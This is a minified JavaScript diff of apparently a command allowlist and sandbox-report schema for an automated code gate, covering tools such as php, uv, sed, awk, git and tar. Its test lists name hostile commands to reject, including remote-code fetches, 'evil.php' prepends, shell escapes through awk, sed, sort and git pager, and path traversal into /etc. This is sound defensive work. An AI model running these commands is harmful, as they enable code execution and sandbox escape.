-nv.yarn .pnp.cjs .pnp.loader.mjs .yarn/plugins .yarn/releases".split(" "),dependencies:[{path:"node_modules",at:"anywher\
-e"},{path:".pnp.cjs",at:"root"},{path:".pnp.loader.mjs",at:"root"},{path:".yarn",at:"root"},{path:".yarn/berry/cache",at:"\
-home"}],environment:{YARN_ENABLE_NETWORK:"0",YARN_ENABLE_TELEMETRY:"0",YARN_ENABLE_GLOBAL_CACHE:"1",COREPACK_ENABLE_NETWORK:"\
-0",COREPACK_ENABLE_STRICT:"0",COREPACK_ENABLE_PROJECT_SPEC:"0"},match:["yarn lint --max-warnings 0","yarn workspace a ru\
-n test","yarn jest --ci"],not_match:["yarn","yarn exec bash","yarn --cwd ../x test","yarn --use-yarnrc x test"]},im=[{path:"\
-vendor",at:"anywhere"}],Z$={starts:"file",extensions:"php",alone:"reads-stdin",flags:{choice:"d=display_errors=~|display\
-_startup_errors=~|error_reporting=~|memory_limit=~|max_execution_time=~|date.timezone=~|assert.exception=1|zend.assertio\
-ns=1|xdebug.mode=off|xdebug.mode=coverage|pcov.enabled=1","checks-syntax-only":"l,syntax-check","outside-code":"r,run= c\
-,php-ini=","reads-stdin":"a,interactive","only-prints":"i,info m,modules ini s,syntax-highlight w,strip"},dependency_tools:[
-"phpunit"],dependencies:im,match:["php scripts/check.php --strict","php -d memory_limit=1G -ddisplay_errors=1 scripts/ch\
-eck.php","php bin/console lint:yaml config","php -l src/a.php","php vendor/bin/phpunit --testdox tests","php ./vendor/ph\
-punit/phpunit/phpunit -c phpunit.xml"],not_match:["php",'php -r "echo 1;"',"php -d auto_prepend_file=evil.php x.php","ph\
-p -dauto_prepend_file=evil.php x.php","php -c evil.ini x.php","php -S localhost:80","php -f x.php","php scripts/x.sh","p\
-hp tool.phar","php https://x.test/y.php","php vendor/bin/phpunit --bootstrap ../x.php","php vendor/bin/phpunit --unknown"]},
-K$={operands:"tests*",flags:{text:`
-      testsuite= exclude-testsuite= group= exclude-group= filter= exclude-filter= test-suffix=
-      process-isolation stop-on-defect stop-on-error stop-on-failure stop-on-warning fail-on-warning
-      fail-on-risky fail-on-deprecation fail-on-notice fail-on-skipped fail-on-incomplete
-      fail-on-empty-test-suite fail-on-all-issues cache-result order-by= random-order random-order-seed=
-      colors?= columns= no-progress no-results no-output no-coverage display-deprecations display-warnings
-      debug teamcity testdox verbose stderr coverage-text?= coverage-filter=
-    `,path:"cache-directory= include-path=",config:"c,configuration= use-baseline=",code:"bootstrap=",output:"log-junit=\
- log-teamcity= testdox-html= testdox-text= coverage-clover= coverage-cobertura= coverage-html= coverage-php= coverage-xm\
-l=","outside-code":"loader=","tool-writes":"generate-baseline= generate-configuration migrate-configuration","skips-test\
-s":"do-not-fail-on-empty-test-suite do-not-fail-on-warning do-not-fail-on-risky ignore-baseline","only-prints":"list-sui\
-tes list-groups list-tests list-tests-xml= atleast-version= check-version"},settings:["vendor"],build_files:["phpunit.xm\
-l","phpunit.xml.dist","phpunit.dist.xml","composer.json"],dependencies:im,match:["phpunit","phpunit --colors=never --fil\
-ter testA tests/ATest.php"],not_match:["phpunit --bootstrap=../x.php","phpunit -c /etc/x.xml","phpunit --extension X"]},
-W$={alone:"only-prints",flags:{text:`
-      check color= diff exclude= exit-non-zero-on-fix exit-non-zero-on-format extend-exclude= extend-ignore=
-      extend-select= fixable= force-exclude ignore= ignore-noqa isolated line-length= no-cache,n
-      output-format= per-file-ignores= preview quiet,q respect-gitignore select= silent,s statistics
-      show-fixes target-version= unfixable= unsafe-fixes verbose,v
-    `,path:"cache-dir=",config:"config=",output:"output-file,o=","tool-writes":"fix fix-only add-noqa? add-ignore?","nev\
-er-ends":"watch,w","reads-stdin":"stdin-filename=",weakens:"exit-zero,e","only-prints":"help,h version,V show-files show\
--settings"},refused:{"only-prints":"rule config linter version help analyze","writes-files":"clean","never-ends":"server"},
-subcommands:{check:{},format:{unless:{"tool-writes":"check diff"}}},build_files:["ruff.toml",".ruff.toml","pyproject.tom\
-l"],dependencies:Ws,environment:{RUFF_NO_CACHE:"true"},match:["ruff check","ruff check src --select E","ruff format --ch\
-eck","ruff check --fix"],not_match:["ruff check --watch","ruff check ../x","ruff clean","ruff nonsense"]},q$={completes:!0,
-flags:{text:`
-      allow-redefinition always-false= always-true= cache-fine-grained check-untyped-defs color-output
-      disable-error-code= disallow-any-explicit disallow-any-expr disallow-any-generics
-      disallow-any-unimported disallow-incomplete-defs disallow-subclassing-any disallow-untyped-calls
-      disallow-untyped-decorators disallow-untyped-defs enable-error-code= error-summary exclude=
-      explicit-package-bases extra-checks follow-imports= ignore-missing-imports implicit-optional
-      implicit-reexport incremental,i local-partial-types module,m= namespace-packages output,O= package,p=
-      platform= pretty python-version= scripts-are-modules show-column-numbers show-error-codes
-      show-error-context show-traceback,tb sqlite-cache strict strict-equality strict-optional verbose,v
-      warn-incomplete-stub warn-no-return warn-redundant-casts warn-return-any warn-unreachable
-      warn-unused-configs warn-unused-ignores
-    `,path:"cache-dir= custom-typing-module= custom-typeshed-dir=",config:"config-file=",output:"cobertura-xml-report= h\
-tml-report= linecount-report= txt-report= xml-report= junit-xml=","outside-code":"command,c=","uses-network":"interactiv\
-e","reads-stdin":"pdb","only-prints":"find-occurrences= stats"},build_files:["mypy.ini",".mypy.ini","pyproject.toml","se\
-tup.cfg"],dependencies:Ws,environment:{...ci,MYPY_FORCE_COLOR:"0"},match:["mypy src","mypy --strict src","mypy -p packag\
-e --no-incremental","mypy"],not_match:['mypy -c "1"',"mypy --python-executable=./x src","mypy --config-file=/etc/x src"]},
-V$={extensions:"py",alone:"only-prints",flags:{text:`
-      active all-extras all-groups all-packages check exact extra= frozen group= isolated locked no-cache,n
-      no-config no-default-groups no-dev no-editable no-env-file no-project no-sync offline only-dev
-      only-group= package= prerelease= quiet,q resolution= verbose,v dev
-    `,path:"directory= project= cache-dir=",config:"config-file=",weakens:"env-file=","outside-code":"python,p=",module:"\
-module,m+","uses-network":"with,w=","only-prints":"help,h version,V show-settings"},refused:{"uses-network":`
-      sync add remove pip venv init tool x export python self cache auth workspace publish
-    `,"writes-files":"build version format","only-prints":"tree help generate-shell-completion"},subcommands:{run:{starts:"\
-program",alone:"only-prints"},lock:{unless:{"tool-writes":"check locked dry-run"}}},started_programs:["pytest","ruff","m\
-ypy","python","python3"],directory_flags:["--directory"],build_files:["pyproject.toml","uv.toml"],dependencies:[...Ws,{path:"\
-.cache/uv",at:"home",variable:"UV_CACHE_DIR"},{path:".local/share/uv/python",at:"home"},{path:".local/share/uv/tools",at:"\
-home"}],environment:{...ci,UV_OFFLINE:"1",UV_NO_PROGRESS:"1",UV_PYTHON_DOWNLOADS:"never"},match:["uv run scripts/check.p\
-y","uv run --frozen python -m pytest","uv lock --check"],not_match:["uv run sh -c id","uv run pytest -o addopts=x","uv r\
-un https://x.test/y.py","uv run -","uv run ci/e.sh","uv run ci/e.PY.sh","uv run ./e.zip"]},om={warnings:["archive_extrac\
-tion_overwrite"]},am={warnings:["archive_creation_overwrite"]},Y$={curated:{tar:{risk:"write",forms:{"-tf {archive}":{risk:"\
-safe"},"-xf {archive} -C {destination}":om,"-czf {archive} {source...}":am},match:["tar -tf a.tar","tar -xf a.tar -C out",
-"tar -czf a.tgz src docs"],not_match:["tar -czf a.tgz .","tar -xf a.tar -C /usr/local/","tar -tf host:a.tar"]},unzip:{risk:"\
-write",forms:{"-l {archive}":{risk:"safe"},"{archive} -d {destination}":om},match:["unzip -l a.zip","unzip a.zip -d out"],
-not_match:["unzip a.zip","unzip -o a.zip -d out","unzip a.zip -d out/../../../etc"]},zip:{risk:"write",forms:{"-r {archi\
-ve} {source...}":am},match:["zip -r a.zip src"],not_match:["zip a.zip src","zip -r a.zip","zip -r a.zip src/.."]}}},cm={
-dangerous_targets:["/"],operands:"text path..."},X$={curated:{cd:{operands:"path?",default_operand:"~",match:["cd src"],
-not_match:["cd a b"]},chmod:{...cm,risk:"write",match:["chmod u+x a"],not_match:["chmod -R 644 a"]},chown:{...cm,risk:"d\
-angerous",match:["chown me a"],not_match:["chown -R me a"]},cp:{risk:"write",flags:{text:"R n p"},operands:"path path...",
-match:["cp -R a b"],not_match:["cp a","cp -f a b"]},file:{flags:{text:"b"},operands:"input...",match:["file -b a"],not_match:[
-"file","file -"]},mkdir:{risk:"write",flags:{text:"p"},operands:"path...",match:["mkdir -p a"],not_match:["mkdir"]},mv:{
-risk:"write",flags:{text:"n"},operands:"path path...",match:["mv -n a b"],not_match:["mv a"]},pwd:{operands:"",match:["p\
-wd"],not_match:["pwd -P","pwd x"]},rm:{risk:"dangerous",flags:{text:"f i r"},flag_warnings:{"-r":"recursive_deletion"},operands:"\
-path...",match:["rm a","rm -rf build","rm -- -x"],not_match:["rm","rm --recursive a","rm -d a"]},stat:{flags:{text:"L x \
-f="},operands:"path...",match:["stat -L a"],not_match:["stat -c x a"]},touch:{risk:"write",operands:"path...",match:["to\
-uch a"],not_match:["touch"]}},both:{cat:{flags:{text:"A E T b e n s t v number number-nonblank show-all squeeze-blank"},
-operands:"input...",curated:{flags:{}},match:["cat notes.md","cat a b"],not_match:["cat","cat --force a","cat -","cat ht\
-tps://host.test/x"]},find:{flags:{text:"-print -type= -print0 -regextype= -size= -mtime= -mmin= -ctime= -cmin= -atime= -\
-amin= -perm= -user= -group= -links= -empty -prune -not -and -or a o -printf=",pattern:"-name= -path= -iname= -ipath= -wh\
-olename= -regex= -iregex=",count:"-maxdepth= -mindepth=",path:"-newer="},leading_flags:["-H","-L","-P"],default_operand:"\
-.",curated:{flags:{text:"-print -type=",pattern:"-name= -path=",count:"-maxdepth= -mindepth="}},match:["find . -name x",
-"find -L src -type f -maxdepth 2"],not_match:["find . -exec rm x","find . -delete","find . -name","find -name x ."]},ls:{
-flags:{text:"1 A B C F G H L N Q R S U X a b c d f g h i k l m n o p q r s t u v x all almost-all author escape ignore-b\
-ackups directory classify file-type full-time group-directories-first no-group human-readable si dereference inode kibib\
-ytes literal numeric-uid-gid quote-name reverse recursive size",pattern:"I= ignore= hide=",count:"w=",choice:"color?=aut\
-o|always|never indicator-style?=none|slash|file-type|classify sort?=none|size|time|version|extension|name|width time?=at\
-ime|access|use|ctime|status|mtime|modification|birth|creation time-style?=full-iso|long-iso|iso|locale format?=across|co\
-mmas|horizontal|long|single-column|verbose|vertical"},default_operand:".",match:["ls","ls -ltrh src","ls --color=auto","\
-ls --sort=time src","ls --all"],not_match:["ls --color src","ls https://host.test","ls --sort=x","ls --force"]}}},_i={text:"\
-w cached staged check exit-code name-only name-status numstat quiet shortstat stat no-color",count:"U= unified=",choice:"\
-color?=auto|always|never"},Q$={..._i,text:`${_i.text} p S= G= all decorate first-parent follow graph merges no-merges on\
-eline patch reverse
-    after= author= before= committer= date= format= grep= pretty= since= until=`,count:`${_i.count} n= max-count= skip=`},
-eR={both:{git:{subcommands:{status:{flags:{text:"b s branch long porcelain short"}},diff:{flags:_i},log:{flags:Q$}},curated:{
-risk:"dangerous",forms:{"status --short":{risk:"safe"},"branch --show-current":{risk:"safe"},"log --oneline -n {count:1-\
-100}":{risk:"safe"},"diff --stat":{risk:"safe"},"diff --name-only":{risk:"safe"}}},match:["git status --short","git log \
---oneline -n 100"],not_match:["git","git push","git -c core.pager=sh log","git diff --ext-diff"]}}},um={network_touching:!0,
-forms:{"{domain}":{}}},tR={curated:{curl:{network_touching:!0,forms:{"-I {url}":{}},match:["curl -I https://host.test"],
-not_match:["curl -I http://localhost","curl -I http://a:b@host.test"]},dig:{...um,match:["dig host.test"],not_match:["di\
-g","dig @192.0.2.1 host.test"]},nslookup:{...um,match:["nslookup host.test"],not_match:["nslookup https://host.test"]},ping:{
-network_touching:!0,forms:{"-c {count:1-10} {host}":{}},match:["ping -c 1 host.test","ping -c 3 2001:db8::5"],not_match:[
-"ping -c 11 host.test","ping -c 1 127.0.0.1","ping -c 1 169.254.169.254"]}}},lm={operands:"package...",network_touching:!0,
-warnings:["writes_files"]},nR={workspace:{"apt-get":{flags:{text:"y yes"},operands:"",subcommands:{update:{network_touching:!0},
-install:lm},match:["apt-get update","apt-get install -y jq"],not_match:["apt-get install ./x.deb","apt-get install -o x=\
-y jq","apt-get remove jq"]}}},dm={flags:{text:"q quiet v verbose U upgrade user no-deps pre force-reinstall no-cache-dir\
- disable-pip-version-check outdated y format="},operands:"package*",subcommands:{list:{},show:{},freeze:{},check:{},install:lm}},
-sR={workspace:{pip:{...dm,match:["pip list","pip install --force-reinstall x"],not_match:["pip install ../x","pip instal\
-l git+https://x/y","pip"]},pip3:{...dm,match:["pip3 list"],not_match:["pip3 install ../x"]},python3:{forms:{"--version":{},
-"-V":{},"--help":{},"{script} {argument*}":{risk:"write"}},match:["python3 tool.py --verbose","python3 --version"],not_match:[
-'python3 -c "print(1)"',"python3 -m http.server","python3","python3 -"]}}},rR={curated:{clear:{operands:"",match:["clear"],
-not_match:["clear -x"]},lsof:{flags:{text:"a n P c= p="},match:["lsof -nP"],not_match:["lsof -t x"]},man:{operands:"page\
- page?",match:["man 1 ls"],not_match:["man -P sh ls","man ./x"]},open:{flags:{text:"R"},operands:"path...",forbidden_prefixes:[
-"http:","https:","ftp:","mailto:"],platforms:["darwin"],match:["open notes.md","open -R notes.md"],not_match:["open http\
-s://host.test","open MAILTO:a@b","open -a Terminal x"]},pgrep:{flags:{text:"f l u="},operands:"pattern",match:["pgrep -f\
-l a"],not_match:["pgrep"]},ps:{flags:{text:"A e f p= u="},operands:"",match:["ps -ef"],not_match:["ps eww"]},sudo:{risk:"\
-dangerous",maturity:"blocked",operands:"text...",match:["sudo ls"],not_match:["sudo -u root ls"]},which:{flags:{text:"a"},
-operands:"text...",match:["which -a node"],not_match:["which"]}},workspace:{free:{flags:{text:"b g h k m t w s= human to\
-tal wide seconds=",count:"c="},operands:"",match:["free -m"],not_match:["free --force"]},id:{flags:{text:"G g n r u"},operands:"\
-text?",match:["id -un"],not_match:["id --force"]}},both:{df:{flags:{text:"a h i k l m P T human-readable inodes local pr\
-int-type total"},curated:{flags:{text:"h"}},match:["df -h"],not_match:["df --output=x","df --force"]},du:{flags:{text:"a\
- c h k s x b m t= B= all bytes human-readable summarize total threshold= block-size=",count:"d= max-depth=",pattern:"exc\
-lude="},default_operand:".",curated:{flags:{text:"a c h k s x",count:"d="}},match:["du -sh src","du -d 1"],not_match:["d\
-u --files0-from=x"]},uname:{flags:{text:"a m n r s v"},operands:"",match:["uname -a"],not_match:["uname x"]},whoami:{operands:"",
-match:["whoami"],not_match:["whoami x","whoami --force"]}}},Bm={flags:{count:"n= c=",text:"#"},operands:"input...",curated:{
-flags:{count:"n= c="}}},iR={workspace:{awk:{flags:{text:"F= field-separator= v= assign="},operands:"awk path*",match:["a\
-wk '{print $1}' notes.md","awk -F / '{print $2}' notes.md"],not_match:[`awk 'BEGIN{system("id")}'`,"awk -f x y",`awk '{p\
-rint > "/etc/x"}' y`]},cut:{flags:{text:"d= f= b= c= s delimiter= fields= bytes= characters= complement only-delimited o\
-utput-delimiter="},match:["cut -d, -f1 data.csv"],not_match:["cut --force x"]},diff:{flags:{text:"B N a b i q r s u w y \
-brief recursive unified side-by-side ignore-all-space label=",pattern:"I= x= ignore-matching-lines= exclude=",count:"U= \
-C= W="},operands:"path path",match:["diff -ru a b"],not_match:["diff --force a b","diff a"]},patch:{risk:"write",flags:{
-count:"p= F= strip= fuzz=",path:"i= o= input= output=",text:"N R l s u dry-run forward reverse silent quiet"},match:["pa\
-tch -p1 -i fix.diff"],not_match:["patch --force -p1","patch -f -p1","patch -e -i x","patch -g1"]},sed:{flags:{text:"E n \
-r s z quiet silent regexp-extended null-data",sed:"e= expression=",count:"l="},operands:"sed path*",first_operand_by:["-\
-e","--expression"],match:["sed -n 1,5p notes.md","sed -n -e 1,5p -e 's/a/b/' a"],not_match:["sed -n '1e id' notes.md","s\
-ed 's/a/b/e' x","sed 'w /etc/x' y","sed -i p x"]},tee:{risk:"write",flags:{text:"a append"},match:["tee out.txt"],not_match:[
-"tee --force x"]},tr:{flags:{text:"C c d s t complement delete squeeze-repeats truncate-set1"},operands:"text text?",match:[
-"tr a-z A-Z","tr / _"],not_match:["tr --force a b"]}},both:{grep:{flags:{text:"E F H R h i l n r L P a c o q s v w x cou\
-nt ignore-case invert-match files-with-matches line-number only-matching quiet recursive word-regexp",pattern:"e= regexp\
-= include= exclude= exclude-dir=",path:"f=",count:"m= A= B= C= max-count=",choice:"color?=auto|always|never"},operands:"\
-pattern input...",first_operand_by:["-e","-f","--regexp"],last_operand_by:["-r","-R","--recursive"],default_operand:".",
-curated:{flags:{text:"E F H R h i l n r",pattern:"e=",path:"f=",count:"m="}},match:["grep -rn TODO src","grep -- -x note\
-s.md","grep -f - notes.md"],not_match:["grep","grep --force x a","grep -e a","grep x","grep x -"]},head:{...Bm,match:["h\
-ead -c5 notes.md"],not_match:["head","head -n x notes.md","head -"]},sort:{flags:{text:"n r u b c d f g h i s V z t= k= \
-field-separator= key= numeric-sort reverse unique human-numeric-sort version-sort ignore-case stable check"},operands:"i\
-nput...",curated:{flags:{text:"n r u"}},match:["sort -nr notes.md"],not_match:["sort -o out notes.md","sort","sort -","s\
-ort --compress-program=sh a"]},tail:{...Bm,match:["tail -n 3 notes.md"],not_match:["tail","tail -f notes.md","tail -"]},
-uniq:{flags:{text:"c d u i count repeated unique ignore-case",count:"f= s= w="},operands:"input",curated:{flags:{text:"c\
- d u"}},match:["uniq -c notes.md"],not_match:["uniq notes.md out.txt","uniq","uniq -"]},wc:{flags:{text:"c l w m L bytes\
- chars lines words max-line-length"},operands:"input...",curated:{flags:{text:"c l w"}},match:["wc -cl notes.md"],not_match:[
-"wc --files0-from=x","wc -l","wc -"]}}},oR=We(["off","auto","require"]),aR=mt({memory_bytes:ot().positive().nullable().describe(
-"Null if unlimited."),processes:ot().positive(),processes_counted_for:We(["command","user"]),open_files:ot().positive(),
-file_bytes:ot().positive(),written_bytes:ot().positive()}),cR=mt({name:me(),held:on(),required:on()}),uR=mt({from:me(),reason:me()}),
-lR=mt({level:We(iD),description:me(),requested:oR.exactOptional(),launcher:me().exactOptional().describe("How the gate i\
-s allowed to create namespaces."),starter:We(["slot","launcher"]).exactOptional().describe("What prepares the namespaces\
- before a command starts: a supervisor (slot). Reports of earlier versions can have a shell for each command (launcher)."),
-limits:aR.exactOptional().describe("The limits of each command, as the kernel enforces them."),probes:Ae(cR).exactOptional().
-describe("The sandbox self-test: what a program that is started like the commands could not do."),downgrades:Ae(uR).exactOptional().
-describe("Stronger containment that this machine does not support, and why."),untrusted:Ms(!0).exactOptional().describe(
-"The isolation and all outcomes were reported by a runner that the change controls.")});function fm(t){return Ol(Rd,t)}function Tz(t){
-return core._isoDate(ZodISODate,t)}function Iz(t){return core._isoTime(ZodISOTime,t)}function $z(t){return core._isoDuration(
-ZodISODuration,t)}const hm=mt({head:me(),tail:me(),bytes:ot().nonnegative(),truncated:on()}),dR=mt({created:Ae(me()),changed:Ae(
-me()),deleted:Ae(me()),totals:mt({created:ot().nonnegative(),changed:ot().nonnegative(),deleted:ot().nonnegative()}).exactOptional().
-describe("The number of paths of each kind, if not all are listed."),complete:Ms(!1).exactOptional().describe("The lists\
- are incomplete; absent if they contain everything.")}),BR=mt({peak_memory_bytes:ot().nonnegative().exactOptional(),cpu_ms:ot().
-nonnegative().exactOptional()}),fR=We(["passed","failed","timed_out","blocked","skipped","crashed","not_runnable","error"]),
-hR=We(["memory_bytes","processes","written_bytes"]),pR=We(["memory","processes","written","file_size","open_files","netw\
-ork","package_manager","home_cache","container_engine","machine_path","rename","read_only","privileges","nested_sandbox",
-"terminal"]),mR=mt({cause:pR,counted:Ms(!0).exactOptional().describe("The kernel enforced the limit, or the machine has \
-what is missing; otherwise the output of the command only suggests it."),limit:ot().nonnegative().exactOptional().describe(
-"The limit, in its own unit."),detail:me().exactOptional().describe("The path that is missing."),key:me().exactOptional().
-describe("The key of the policy that changes it.")}),gR=mt({status:fR,exit_code:ot().nullable(),signal:me().nullable(),started_at:fm(),
-duration_ms:ot().nonnegative(),reason:me().exactOptional(),stdout:hm,stderr:hm,side_effects:dR.exactOptional().describe(
-"What the command wrote to its private copy of the checkout, which is discarded."),checkout_modified:Ae(me()).exactOptional().
-describe("Files of the checkout that differ from the audited ones after the command."),checkout_changed:Ae(me()).exactOptional().
-describe("Files of the checkout that something other than the command changed meanwhile."),left_out:Ae(me()).exactOptional().
-describe("Files of the checkout that the failed command mentions and did not see, because they are not in the commit."),
-root:me().exactOptional().describe("The root of the checkout as the command saw it; only if it did not pass and its outp\
-ut names it."),limits_hit:Ae(hR).exactOptional().describe("Limits that the kernel enforced on the command; absent if non\
-e is known."),causes:Ae(mR).exactOptional().describe("What containment did that explains why the command failed, the mos\
-t certain first."),resources:BR.exactOptional().describe("Usage of the command and all of its descendants, if the machin\
-e reports it."),reused:Ms(!0).exactOptional().describe("The result of the same Plan in another gene; it ran once.")}),CR=We(
-["pass","warn","fail","error","needs_approval"]),Rz=We(["done","agent","human","undecided"]),Nz=We(["allow","warn","bloc\
-k"]),mc=We(["safe","write","dangerous"]),Fz=We(rD),Lz=mt({user:me(),at:fm(),pull_request:ot().positive().exactOptional().
-describe("The pull request of the review; several can be in one merge group.")}),Pz=We(["pull_request","merge_group","pu\
-sh","workflow_dispatch","range","worktree","index"]),yR=We(["darwin","linux","win32"]),wR=256,pm=ot().min(1).max(wR),bR=mt(
-{index:pm,of:pm}),jz=bR.extend({genes:ot().nonnegative().describe("Number of genes in the shard."),verdict:CR.describe("\
-The verdict about these genes alone.")}),Mz=mt({contained:on().describe("False if this machine has no namespaces: the li\
-nes could reach all that the gate can."),isolation:lR,lines:Ae(mt({command:me(),outcome:gR})),written:Ae(me()).describe(
-"Files and directories that are new in the checkout, sorted; a limited number.")}),_R=["network_touching","archive_extra\
-ction_overwrite","archive_creation_overwrite","env_secrets","recursive_deletion","broad_permission_target","writes_files"],
-mm=We(_R),Ei=me().regex(/^[A-Za-z0-9][\w.+-]*$/,"expected the name of a program"),gc=me().regex(/^(?![\\/]|[A-Za-z]:)(?!(?:.*[\\/])?\.\.(?:[\\/]|$))[^\\]+$/,
-"expected a relative path without .."),Cc=me().regex(/^-\S*$/,"expected a flag, such as -n or --name"),yc=Ae(Cc).readonly(),
-ER=Wt({flag:me().regex(/^--?[A-Za-z0-9][\w.:-]*$/,"expected a flag such as --name").describe("As it is written, with its\
- dashes."),value:We(["none","path","text"]).describe("Its value: none, a path of the repository, or any other text.")}),
-Gz=kn(me().min(1),Ae(ER).min(1)),gm={match:Ae(me()).min(1).describe("Commands that the family must accept."),not_match:Ae(
-me()).min(1).describe("Commands that the family must reject.")},wc=We(Ea),kR=Object.keys(ds),Cm="names without dashes, s\
-eparated by blanks",bc={flags:So(We([...kR,...Ea]),me()).optional().describe(`Flags by the kind of their values, or by w\
-hy they are refused: ${Cm}. A comma separates spellings, a mark behind a name is its value: \`=\` required, \`?\` optional, \
-\`?=\` attached, \`*\` several, \`+\` all following words, \`=a|b\` one of these; \`~\` stands for any end.`),operands:me().
-refine(t=>sa(t)!==void 0,{error:"expected kinds such as path; a kind with ? * or ... only at the end"}).optional().describe(
-"Kinds in order; the last may end with `?` (optional), `...` (one or more) or `*` (any number). Default: `path*`.")},_c={
-...bc,risk:mc.optional().describe("Default: safe."),warnings:Ae(mm).readonly().optional(),network_touching:on().optional()},
-ym={..._c,leading_flags:yc.optional().describe("Flags before the operands; all others are behind them."),first_operand_by:yc.
-optional().describe("With one of these flags, there is no first operand."),last_operand_by:yc.optional().describe("With \
-one of these flags, the last operand may be absent."),default_operand:me().optional().describe("The path that the progra\
-m uses by default."),flag_warnings:kn(me(),mm).optional(),dangerous_targets:Ae(me()).readonly().optional(),forbidden_prefixes:Ae(
-me()).readonly().optional(),forms:kn(me(),Wt(_c)).refine(t=>Object.keys(t).every(e=>hf(e)!==void 0),{error:"expected wor\
-ds and placeholders such as {path}; {source...} only at the end"}).optional().describe("The only accepted words after th\
-e program: literal, or {kind}, {count:1-10}, and {kind...} at the end; with what differs from the program."),subcommands:kn(
-me(),Wt(_c)).optional().describe("The only accepted first words, with what differs from the program.")},vR=Wt({...ym,only:We(
-["curated","workspace"]).optional().describe("The only profile that accepts the program. Default: both."),curated:Wt(ym).
-optional().describe("What replaces the keys above in the `curated` profile."),maturity:We(["structured","direct_only","e\
-xperimental_only","blocked"]).optional(),platforms:Ae(yR).optional(),...gm}),DR=["file","package","program","node","comm\
-and","script","own-script","tool","script-or-tool","script-tool-or-file","command-texts","npm-scripts"],Ec={...bc,operands:bc.
-operands.refine(t=>t===void 0||t.endsWith("*"),{error:"expected a last kind with *: the default profile does not count o\
-perands"}),refused:So(wc,me()).optional().describe(`First operands by why they are refused: ${Cm}; \`~\` stands for any en\
-d.`),starts:We(DR).optional().describe("What the first operand is, if the program runs it."),unless:So(wc,me()).optional().
-describe("Refused for a reason, unless one of these flags is set."),alone:wc.optional().describe("What it does without a\
-n operand or subcommand."),any_package:on().optional(),skips:ot().nonnegative().optional(),variables:Ae(me()).optional()},
-xR=Wt({...Ec,behind:Wt({flags:Ec.flags}).optional().describe("The flags that may stand behind `--`; default: operands.")}),
-OR=Wt({...Ec,programs:Ae(Ei).optional().describe("The words that start the program; default: the name of the family."),risk:mc.
-default("safe"),completes:on().default(!1).describe("Flags may be written by their beginning, as for getopt and argparse\
-."),subcommands:kn(me().regex(/^\S+(?: \S+)*$/),xR).default({}).describe("By name; a comma separates spellings, a blank \
-the words of a nested subcommand."),extensions:me().optional().describe("Extensions of the files that it may run, beside\
-s files without one."),dependency_tools:Ae(Ei).default([]),started_programs:Ae(Ei).default([]),directory_flags:Ae(Cc).default(
-[]),selecting_flags:Ae(Cc).default([]),settings:Ae(gc).default([]).describe("Files and folders, from the working directo\
-ry up, that can give a command another meaning: a change must not edit them."),build_files:Ae(gc).default([]).describe("\
-Files of the commit that decide what the program does; `*` matches in a name."),dependencies:Ae(Wt({path:gc,at:We(["root",
-"anywhere","home"]),variable:me().regex(/^[A-Z][A-Z0-9_]*$/).optional()})).default([]).describe("Where its dependencies \
-are, outside of the commit."),environment:kn(me().regex(/^[A-Za-z_]\w*$/),me()).default({}).describe("Variables that are\
- set for the program."),...gm}),AR=Wt({name:Ei,category:me().min(1).optional().describe("The pack, for `disabled_packs`;\
- default: the pack of the built-in family of the same name, or `other`."),notes:me().optional(),evolver:OR.optional().describe(
-"For the default profile, which accepts the program if `programs` names it."),sandbox:vR.optional().describe("For the `c\
-urated` and `workspace` profiles. Default: neither accepts the program.")}),SR={archives:On(Y$),build:ki({cargo:j$,go:M$,
-make:z$}),files:On(X$),git:On(eR),javascript:ki({bun:G$,deno:H$,pnpm:U$,yarn:J$}),network:On(tR),packages:On(nR),php:ki(
-{php:Z$,phpunit:K$}),python:[...On(sR),...ki({mypy:q$,pytest:xA,python:DA,ruff:W$,uv:V$})],system:On(rR),text:On(iR)};function ki(t){
+  `}),pm=[...Bm,...bR,...wR,...yR,...CR,..._R],mm=new Map(pm.flatMap(t=>{const e=Ht(t);return t.programs.map(n=>[n,e])}));
+function SR(t){const e=new Map([...t].flatMap(([n,s])=>{const r=pm.find(({programs:i})=>i.includes(n));return r?[[n,Ht(r,
+[s])]]:[]}));return{known:n=>{const s=mm.has(n)?n:gm(n);return e.get(s)??mm.get(s)},refusal:n=>hm.get(n)??hm.get(gm(n)),
+unknown:AR,module:xR}}function gm(t){return t.replace(/^@[^/]*\//,"")}const TR={archives:On(j$),build:ki({cargo:x$,go:O$,
+make:T$}),files:On(M$),git:On(H$),javascript:ki({bun:A$,deno:S$,pnpm:I$,yarn:$$}),network:On(z$),packages:On(U$),php:ki(
+{php:R$,phpunit:N$}),python:[...On(J$),...ki({mypy:L$,pytest:CA,python:gA,ruff:F$,uv:P$})],system:On(Z$),text:On(K$)};function ki(t){
 return Object.entries(t).map(([e,n])=>({name:e,evolver:n}))}function On({curated:t,workspace:e,both:n}){const s=(r={},i)=>Object.
-entries(r).map(([o,a])=>({name:o,sandbox:{...a,only:i}}));return[...s(t,"curated"),...s(e,"workspace"),...s(n)]}const wm=Object.
-entries(SR).flatMap(([t,e])=>e.map(n=>({...n,category:t}))).sort((t,e)=>t.name<e.name?-1:1);let kc;const bm=new WeakMap;
-function vi(t=[]){if(kc??=new Map(wm.map(s=>[s.name,Em(s)])),t.length===0)return kc;const e=bm.get(t);if(e!==void 0)return e;
-const n=new Map(kc);for(const s of t){const r=n.get(s.name);n.set(s.name,{...r,...Em(s,r?.category)})}return bm.set(t,n),
-n}const _m="other";function Em(t,e=_m){const n=AR.parse(t);return{...n,category:n.category??e}}function Hz(t){return[...new Set(
-[...wm,...t].map(({category:e=_m})=>e))]}function Di(t){return[...vi(t).values()].flatMap(e=>{const{evolver:n,name:s}=e;
-return n===void 0?[]:(n.programs??[s]).map(r=>({word:r,family:e,evolver:n}))})}function zz(t){return[...TOOLS.keys(),...Di(
-t).map(({word:e})=>e)]}function Uz(t){const e=Di(t).flatMap(({word:s,family:r})=>[r.name,s]),n=[...vi(t).values()].filter(
-km);return[...new Set([...e,...n.map(({name:s})=>s)])]}function TR(t,{programs:e,families:n}){if(!e.includes(t))return!1;
-const s=vi(n).get(t);return s!==void 0&&km(s)}function km({evolver:t,sandbox:e}){return t===void 0&&e!==void 0&&e.only!==
-"workspace"&&e.maturity!=="blocked"}function vm(t,e,n){const s=vi(n).get(e),{only:r=t,curated:i,...o}=s?.sandbox??{};if(!(s?.
-sandbox===void 0||r!==t))return t==="workspace"||i===void 0?{...o,family:s}:{...o,...i,family:s}}function IR({word:t,family:e},n){
